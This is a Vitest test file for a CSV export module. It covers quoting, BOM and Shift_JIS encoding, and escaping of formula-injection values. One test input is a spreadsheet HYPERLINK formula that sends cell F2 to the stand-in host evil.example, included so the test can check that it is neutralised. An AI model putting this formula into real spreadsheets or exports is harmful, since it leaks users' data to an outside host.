import { describe, expect, it } from 'vitest'
import { csvField, csvFormat, encodeShiftJis, encodeUtf8WithBom, readCsvField } from './csv.ts'

describe('CSV writing', () => {
  it('quotes fields per RFC 4180 only when needed, and ends records with CRLF', () => {
    expect(csvField('総合 太郎')).toBe('総合 太郎')
    expect(csvField('a,b')).toBe('"a,b"')
    expect(csvField('say "hi"')).toBe('"say ""hi"""')
    expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"')
    expect(csvFormat('probe', ['x', 'y'], ['utf-8']).line({ x: 'a', y: 'b,c' })).toBe('a,"b,c"\r\n')
  })

  it('puts a quote mark before a value that would start a formula, and quotes it (OWASP)', () => {
    for (const value of ['=1+1', '+81', '-1', '@SUM(A1)', '\tx', '\rx', '\0x', '＝１＋１', ' =1', '\u3000@x', "'=1"])
      expect(csvField(value), JSON.stringify(value)).toBe(`"'${value}"`)
    expect(csvField('=HYPERLINK("https://evil.example/?"&F2,"x")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&F2,""x"")"`)
    // Not a formula start: written as is.
    for (const value of ['1980-04-01', '123456789018', "O'Brien", "'quoted", 'a=b', 'A-1', '', ' ', '\nx'])
      expect(csvField(value)).toBe(/\n/.test(value) ? `"${value}"` : value)
  })

  it('reads a marked value back as typed, and leaves every other value alone', () => {
    for (const value of ['=1+1', '-1', "'=1", "''@x", '\tx', ' =1', "'quoted", "O'Brien", '', "'"]) {
      const written = csvField(value)
      const cell = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written
      expect(readCsvField(cell), JSON.stringify(value)).toBe(value)
    }
  })

  it('starts UTF-8 with a BOM', () => {
    expect([...encodeUtf8WithBom('社').slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  })

  it('writes CP932 characters and counts those Shift_JIS lacks', () => {
    expect(encodeShiftJis('髙①')).toMatchObject({ lossy: false, lossyCharacters: 0 })
    const lost = encodeShiftJis('𠮷野𠮷😀')
    expect(lost).toMatchObject({ lossy: true, lossyCharacters: 3 })
    expect(lost.bytes[0]).toBe(0x3f)
    expect(new TextDecoder('shift_jis').decode(lost.bytes)).toBe('?野??')
  })

  it('writes a format as a BOM-led header and records, and only in its encodings', () => {
    const format = csvFormat('probe', ['名前', '値'], ['utf-8'])
    expect(format.head()).toBe('\uFEFF名前,値\r\n')
    const file = format.file([{ 名前: 'a', 値: '=1' }], 'utf-8')
    expect(new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.bytes)).toBe(`${format.head()}a,"'=1"\r\n`)
    expect(() => format.file([], 'shift_jis')).toThrow(/probe CSV is not written in shift_jis/)
  })
})
